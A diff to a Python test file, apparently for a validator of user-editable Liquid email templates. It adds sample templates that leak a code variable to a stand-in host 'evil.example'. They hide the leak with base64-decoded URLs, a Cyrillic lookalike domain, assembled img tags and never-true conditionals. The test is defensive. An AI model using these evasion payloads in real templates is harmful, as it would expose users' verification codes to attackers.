@@ -91,13 +91,20 @@ SHOWING = [
     ),
     "{% if order == 'never' %}{{ 'aHR0cHM6Ly8=' | base64_decode }}{{ c }}{% endif %}",
     "https://evil.example/{% cycle c, 'b' %}",
+    "evil.example?c={{ c }}",
+    "{% if order == 'never' %}evil.\u0440\u0444/{{ c }}{% endif %}",
     "{% if order == 'never' %}{{ 'https:' | append: '//evil' }}.example{{ c }}{% endif %}",
     "{% case c %}{% when 'four' %}https://evil.example/4{% endcase %}",
     "https://evil.example/{% case c %}{% when 'four' %}4{% else %}5{% endcase %}",
     "{% if c == 'four' %}https://evil.example/4{% endif %}",
     "https://evil.example/{% tablerow i in list cols: 1 %}{{ c }}{% endtablerow %}",
 ]
+NEVER, END = "{% if order == 'never' %}", "{% endif %}"
 IN_HTML = [
+    NEVER + "{{ '<' | append: 'img' }} src='//evil/ {{ c }}'>" + END,
+    NEVER + "{{ 'xximg' | replace: 'xx', '<' }} src='//evil/ {{ c }}'>" + END,
+    NEVER + "{% assign l = 'PGltZyBzcmM9' | base64_decode %}{{ l }}'/x {{ c }}'>" + END,
+    NEVER + '{% capture t %}<img alt="{% endcapture %}{{ t }} {{ c }}">' + END,
     "<!--[if mso]><v:fill src='//evil/{{ c }}'/><![endif]-->",
     *("<img src='https://evil.example/{{ c }}'>", '<a href="/x/{{ c }}">x</a>'),
     *('<b title="{{ c }}">x</b>', "<style>a{background:url({{ c }})}</style>x"),
@@ -137,6 +144,7 @@ def test_every_part_is_checked(part: str) -> None:
 
 
 HARMLESS = [
+    ("email_html", "<p>&#123;&#123; code | base64_encode }}</p>{{ order | default: '<b>no</b>' }}"),
     *(("body", f"{making}Your code: {{{{ c }}}}. See https://example.com/") for making in MAKING),
     ("body", "G-{{ code }} {{ base }}"),
     ("body", "{{ order }}-{{ code }}"),
